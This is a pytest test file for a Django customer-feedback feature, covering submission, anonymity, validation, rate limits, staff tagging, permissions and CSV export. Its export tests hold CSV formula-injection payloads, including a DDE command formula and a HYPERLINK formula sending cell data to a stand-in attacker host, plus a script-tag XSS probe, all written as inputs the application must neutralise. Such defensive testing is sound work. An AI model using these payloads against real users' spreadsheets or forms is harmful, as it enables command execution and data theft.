"""Feedback: given with a name or without, once, kept; sorted and exported by staff."""

import csv
import io
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.db import connection, connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import Throttle, User
from audit.models import AuditEvent
from mailroom.models import OutgoingMail
from support.export import harmless
from support.models import Feedback, FeedbackTag
from tests.customer import log_in
from tests.pages import words_of
from tests.staff import open_record, staff_log_in

pytestmark = pytest.mark.django_db
PAGE = "/resources/feedback/"
LIST = "/staff/support/feedback/"
WORDS = "Please let me print in landscape."


def number_on(client: Client) -> str:
    """The number of the form that the page shows."""
    return str(client.get(PAGE).context["form"]["form_number"].value())


def give(client: Client, text: str = WORDS, **values: str):
    return client.post(PAGE, {"text": text, "form_number": number_on(client)} | values, follow=True)


@pytest.fixture
def customer(alice) -> Client:
    return log_in(alice)


@pytest.fixture
def staff(ada) -> Client:
    return staff_log_in(ada)


def written(text: str = WORDS, **values) -> Feedback:
    return Feedback.objects.create(text=text, submission=f"{Feedback.objects.count():064}", **values)


# Customers


def test_a_suggestion_is_kept_thanked_for_and_shown(customer, alice, notebook):
    answer = give(customer, product=str(notebook.pk), may_we_answer="on")
    page = words_of(answer.content.decode())
    assert "Your suggestion is in our store of ideas" in page
    assert WORDS in page
    assert "We may write to you about it." in page
    kept = Feedback.objects.get()
    assert (kept.user, kept.product, kept.text, kept.may_we_answer) == (alice, notebook, WORDS, True)
    event = AuditEvent.objects.get(kind="feedback.given")
    assert (event.user, event.ip, event.detail) == (alice, "127.0.0.1", {})
    assert not OutgoingMail.objects.filter(user=alice, subject__icontains="feedback").exists()


def test_the_page_says_how_long_it_is_kept_and_that_nobody_need_sign(customer):
    page = words_of(customer.get(PAGE).content.decode())
    assert "We keep suggestions without limit , as a store of ideas" in page
    assert "Nobody need sign" in page


def test_without_a_name_nothing_names_the_person(customer, alice):
    page = give(customer, anonymous="on").content.decode()
    assert WORDS not in page
    kept = Feedback.objects.get()
    assert (kept.user, kept.may_we_answer) == (None, False)
    written_at = timezone.localtime(kept.written_at)
    assert (written_at.hour, written_at.minute, written_at.second, written_at.microsecond) == (0, 0, 0, 0)
    event = AuditEvent.objects.get(kind="feedback.given")
    assert (event.user, event.actor, event.ip, event.detail) == (None, None, None, {})


def test_without_a_name_there_is_no_answer(customer):
    answer = give(customer, anonymous="on", may_we_answer="on")
    assert "Without your name we cannot answer you" in words_of(answer.content.decode())
    assert WORDS in answer.content.decode()
    assert not Feedback.objects.exists()


def test_a_form_that_is_sent_twice_counts_once(customer):
    number = number_on(customer)
    for _time in range(15):
        answer = customer.post(PAGE, {"text": WORDS, "form_number": number}, follow=True)
        assert "store of ideas" in answer.content.decode()
    assert (Feedback.objects.count(), AuditEvent.objects.filter(kind="feedback.given").count()) == (1, 1)


def test_other_words_from_the_same_form_and_the_same_words_of_others_are_not_lost(customer, bob):
    number = number_on(customer)
    for text in (WORDS, WORDS + " And in colour."):
        customer.post(PAGE, {"text": text, "form_number": number})
    give(log_in(bob))
    customer.post(PAGE, {"text": WORDS})
    assert Feedback.objects.count() == 4


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({"text": ""}, "This field is required"),
        ({"text": "\r\n  "}, "This field is required"),
        ({"text": "x" * 5001}, "This text has 5001 characters; 5000 are the most that we can take. Nothing is lost"),
        ({"text": "\x00"}, "Null characters"),
        ({"product": "x"}, "Select a valid choice"),
        ({"product": "9" * 40}, "Select a valid choice"),
        ({"product": "\x00"}, "Null characters"),
    ],
)
def test_what_cannot_be_taken_is_said_and_nothing_is_lost(customer, values, said):
    answer = customer.post(PAGE, {"text": WORDS} | values)
    page = answer.content.decode()
    assert answer.status_code == 200
    assert said in page
    assert values.get("text", WORDS).strip("\r\n\0 ") in page
    assert not Feedback.objects.exists()


def test_the_longest_text_fits_whatever_its_line_breaks(customer):
    give(customer, "\r\n".join(["ü" * 49] * 100) + "!")
    assert len(Feedback.objects.get().text) == 5000


def test_the_browser_is_not_asked_to_cut_what_is_pasted(customer):
    assert "maxlength" not in customer.get(PAGE).content.decode()


def test_products_to_choose_are_the_customers_own(customer, alice, notebook, mailer):
    page = customer.get(PAGE).content.decode()
    assert f'value="{notebook.pk}"' in page
    assert "Mailer" not in page
    assert "Select a valid choice" in give(customer, product=str(mailer.pk)).content.decode()


def test_nobody_sees_what_others_wrote(customer, bob):
    give(customer)
    assert WORDS not in log_in(bob).get(PAGE).content.decode()
    assert Client().get(PAGE)["Location"].startswith("/resources/log-in/")
    assert Client().post(PAGE, {"text": WORDS})["Location"].startswith("/resources/log-in/")


def test_too_much_in_a_day_comes_back_whole(customer):
    for number in range(10):
        give(customer, f"idea {number}")
    answer = give(customer, "the eleventh")
    assert (answer.status_code, answer["Retry-After"]) == (429, "3600")
    assert "your text is still here" in answer.content.decode()
    assert "the eleventh" in answer.content.decode()
    assert Feedback.objects.count() == 10
    Throttle.objects.all().delete()
    assert give(customer, "the eleventh").status_code == 200


def test_it_takes_a_token_against_forged_forms(alice):
    browser = Client(enforce_csrf_checks=True)
    browser.cookies = log_in(alice).cookies
    assert browser.post(PAGE, {"text": WORDS}).status_code == 403
    assert not Feedback.objects.exists()


def test_what_is_written_is_text(customer):
    page = give(customer, "<script>alert(1)</script>").content.decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert" in page


def test_many_are_on_pages_and_the_queries_do_not_grow(customer, alice, notebook):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert customer.get(PAGE).status_code == 200
        return len(captured)

    written(user=alice, product=notebook)
    before = queries()
    for number in range(25):
        written(f"idea {number:02}", user=alice, product=notebook, written_at=timezone.now() - timedelta(days=number + 1))
    assert queries() == before == 4
    first, third = (customer.get(PAGE, {"page": number}).content.decode() for number in (1, 3))
    assert ("idea 08" in first, "idea 09" in first) == (True, False)
    assert "idea 24" in third


def test_it_stays_when_the_account_goes(mallory):
    give(log_in(mallory))
    AuditEvent.objects.all()._raw_delete("default")
    Throttle.objects.all().delete()
    mallory.delete()
    assert (Feedback.objects.get().user, Feedback.objects.get().text) == (None, WORDS)


@pytest.mark.postgresql
@pytest.mark.django_db(transaction=True)
def test_the_same_form_at_the_same_time_counts_once(alice):
    browser = log_in(alice)
    number = number_on(browser)

    def send(_number: int) -> int:
        try:
            client = Client()
            client.cookies = browser.cookies
            return client.post(PAGE, {"text": WORDS, "form_number": number}).status_code
        finally:
            connections.close_all()

    with ThreadPoolExecutor(6) as pool:
        assert list(pool.map(send, range(6))) == [302] * 6
    assert Feedback.objects.count() == AuditEvent.objects.filter(kind="feedback.given").count() == 1


# Staff


@pytest.fixture
def store(alice, bob, notebook) -> dict[str, Feedback]:
    """Three ideas: Alice's about Notebook, Bob's, and one without a name."""
    return {
        "alice": written("Print in landscape", user=alice, product=notebook, may_we_answer=True),
        "bob": written("A dark theme", user=bob),
        "nobody": written("Cheaper, please"),
    }


def act(client: Client, action: str, chosen: list[Feedback], **values: object):
    data = {"action": action, "_selected_action": [one.pk for one in chosen]} | values
    return client.post(LIST, data, follow=action != "export")


def test_staff_find_by_words_customer_tag_product_and_day(staff, store, alice, notebook):
    tag = FeedbackTag.objects.create(name="printing")
    store["alice"].tags.add(tag)

    def listed(**query: object) -> set[str]:
        return {one.text for one in staff.get(LIST, query).context["cl"].result_list}

    assert listed() == {"Print in landscape", "A dark theme", "Cheaper, please"}
    assert listed(q="dark") == {"A dark theme"}
    assert listed(q=alice.email_key) == listed(tags__id__exact=tag.pk) == listed(product__id__exact=notebook.pk) == {"Print in landscape"}
    assert listed(written_at__gte=timezone.now() + timedelta(days=1)) == set()
    assert staff.get(LIST, {"tags__id__exact": "x"}).status_code in (200, 302)


def test_tags_are_added_and_taken_away_from_many_at_once(staff, store):
    tag = FeedbackTag.objects.create(name="looks")
    answer = act(staff, "add_tag", list(store.values()), tag=tag.pk)
    assert "The tag was added." in answer.content.decode()
    act(staff, "add_tag", list(store.values()), tag=tag.pk)
    assert tag.feedback.count() == 3
    act(staff, "remove_tag", [store["bob"]], tag=tag.pk)
    assert tag.feedback.count() == 2
    assert "Choose a tag" in act(staff, "add_tag", list(store.values())).content.decode()
    for nothing in ("999", "x", "\x00"):
        assert act(staff, "add_tag", list(store.values()), tag=nothing).status_code == 200
    assert tag.feedback.count() == 2


def test_on_its_page_the_tags_change_and_the_words_do_not(staff, store):
    tag = FeedbackTag.objects.create(name="looks")
    page = f"{LIST}{store['bob'].pk}/change/"
    staff.post(page, {"tags": [tag.pk], "text": "A light theme", "user": ""})
    kept = Feedback.objects.get(pk=store["bob"].pk)
    assert (kept.text, kept.user, [one.name for one in kept.tags.all()]) == ("A dark theme", store["bob"].user, ["looks"])
    assert staff.post(page, {"tags": ["x"]}).status_code == 200
    assert staff.post(f"{LIST}{store['bob'].pk}/delete/", {"post": "yes"}).status_code == 403


def test_a_tag_is_there_once_however_it_is_spelt(staff):
    for name in ("Looks", "looks"):
        answer = staff.post("/staff/support/feedbacktag/add/", {"name": name}, follow=True)
    assert "There is such a tag already." in words_of(answer.content.decode())
    assert FeedbackTag.objects.count() == 1


def rows_of(response) -> list[list[str]]:
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_export_has_the_ideas_and_nobodys_name(staff, ada, store, alice):
    store["alice"].tags.add(FeedbackTag.objects.create(name="printing"), FeedbackTag.objects.create(name="paper"))
    Feedback.objects.filter(pk=store["bob"].pk).update(text='Zwei Zeilen:\n"grün", bitte')
    response = act(staff, "export", list(store.values()))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="feedback-{timezone.localdate():%Y-%m-%d}.csv"'
    header, *rows = rows_of(response)
    assert header == ["number", "day", "product", "tags", "may be answered", "text"]
    day = f"{timezone.localdate():%Y-%m-%d}"
    assert sorted(rows) == sorted(
        [
            [str(store["alice"].pk), day, "Notebook", "paper, printing", "yes", "Print in landscape"],
            [str(store["bob"].pk), day, "", "", "no", 'Zwei Zeilen:\n"grün", bitte'],
            [str(store["nobody"].pk), day, "", "", "no", "Cheaper, please"],
        ]
    )
    assert alice.email not in str(rows) + str(header)
    event = AuditEvent.objects.get(kind="feedback.exported")
    assert (event.actor, event.user, event.detail) == (ada, None, {"count": 3})


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1", "\n=1"])
def test_no_cell_is_a_formula(cell):
    assert harmless(["a=1", cell]) == ["a=1", f"'{cell}"]


def test_a_formula_as_an_idea_a_product_or_a_tag_is_harmless_in_the_file(staff, notebook):
    notebook.name = "=cmd|' /C calc'!A0"
    notebook.save()
    one = written('=HYPERLINK("http://evil.example?"&A1)', product=notebook)
    one.tags.add(FeedbackTag.objects.create(name="@tag"))
    assert rows_of(act(staff, "export", [one]))[1][2:] == ["'=cmd|' /C calc'!A0", "'@tag", "no", '\'=HYPERLINK("http://evil.example?"&A1)']


def test_a_long_export_comes_row_by_row_with_few_queries(staff, notebook):
    tag = FeedbackTag.objects.create(name="many")
    Feedback.objects.bulk_create(Feedback(text=f"idea {number}", submission=f"x{number}", product=notebook) for number in range(1200))
    tag.feedback.add(*Feedback.objects.all())
    response = act(staff, "export", [Feedback.objects.first()], select_across="1")
    with CaptureQueriesContext(connection) as captured:
        assert len(rows_of(response)) == 1201
    assert len(captured) <= 4, "one for the ideas, and one for the tags of each 500"


def test_support_reads_and_tags_what_a_customer_wrote_whose_record_is_open_and_does_not_export(sam, store, bob):
    client, tag = staff_log_in(sam), FeedbackTag.objects.create(name="looks")
    assert "A dark theme" not in client.get(LIST).content.decode()
    open_record(client, bob)
    page = client.get(LIST).content.decode()
    assert "A dark theme" in page
    assert "Export as CSV" not in page
    act(client, "add_tag", [store["bob"]], tag=tag.pk)
    assert tag.feedback.count() == 1
    assert not act(client, "export", [store["bob"]]).streaming
    assert not AuditEvent.objects.filter(kind="feedback.exported").exists()
    sam.user_permissions.add(Permission.objects.get(codename="export_feedback"))
    assert act(client, "export", [store["bob"]]).streaming


def test_staff_without_the_right_see_nothing(sam, store):
    client = staff_log_in(sam)
    assert [client.get(page).status_code for page in (LIST, f"{LIST}{store['bob'].pk}/change/")] == [403, 403]


def test_the_list_takes_so_many_queries_however_long_it_is(staff, store, notebook):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert staff.get(LIST).status_code == 200
        return len(captured)

    tag = FeedbackTag.objects.create(name="looks")
    store["bob"].tags.add(tag)
    before = queries()
    for number in range(30):
        user = User.objects.create_user(f"u{number}@example.com")
        written(f"idea {number}", user=user, product=notebook).tags.add(tag)
    assert queries() == before == 9
